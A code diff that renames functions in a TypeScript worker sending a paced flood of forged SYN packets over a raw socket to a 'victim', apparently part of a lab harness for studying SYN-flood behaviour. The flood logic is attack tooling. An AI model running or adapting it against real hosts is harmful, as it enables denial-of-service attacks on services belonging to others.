@@ -1,12 +1,11 @@
 // A flood of forged SYNs. `opened` is what was sent: the victim alone knows what it made of it.
 
-import { SyscallError, sendTo, socket } from "../src/linux/index.ts";
+import { AF_INET, openSocket, SyscallError, sendTo } from "../src/linux/index.ts";
 import type { Counts, HoldTask } from "./messages.ts";
-import { Pace } from "./pace.ts";
+import { Pacer } from "./pace.ts";
 import { encodeSyn } from "./syn.ts";
-import { listen, say } from "./worker.ts";
+import { onTask, tellKeeper } from "./worker.ts";
 
-const AF_INET = 2;
 const SOCK_RAW = 3;
 const IPPROTO_RAW = 255;
 /** A flood without a ramp: faster loses SYNs in the veth's queue (1000 packets) on a busy machine. */
@@ -16,22 +15,22 @@ const PORTS = 60_000;
 
 let flood: Flood | null = null;
 
-listen((message) => {
+onTask((message) => {
   if (message.kind === "hold") flood = new Flood(message);
-  if (message.kind === "count" && flood !== null) say({ kind: "counted", ...flood.counts() });
+  if (message.kind === "count" && flood !== null) tellKeeper({ kind: "counted", ...flood.counts() });
 });
 
 class Flood {
   readonly #task: HoldTask;
-  readonly #pace: Pace;
-  readonly #fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+  readonly #pace: Pacer;
+  readonly #fd = openSocket(AF_INET, SOCK_RAW, IPPROTO_RAW);
   #sent = 0;
   #failed = 0;
   #settled = false;
 
   constructor(task: HoldTask) {
     this.#task = task;
-    this.#pace = new Pace({ count: task.count, perSecond: task.rampPerSecond || PER_SECOND_DEFAULT });
+    this.#pace = new Pacer({ count: task.count, perSecond: task.rampPerSecond || PER_SECOND_DEFAULT });
     this.#pace.onTick(() => this.#sendDue());
   }
 
@@ -43,7 +42,7 @@ class Flood {
     while (this.#pace.takeOne()) this.#send(this.#task.first + this.#pace.taken - 1);
     if (!this.#pace.done || this.#settled) return;
     this.#settled = true;
-    say({ kind: "settled", ...this.counts() });
+    tellKeeper({ kind: "settled", ...this.counts() });
   }
 
   #send(i: number): void {
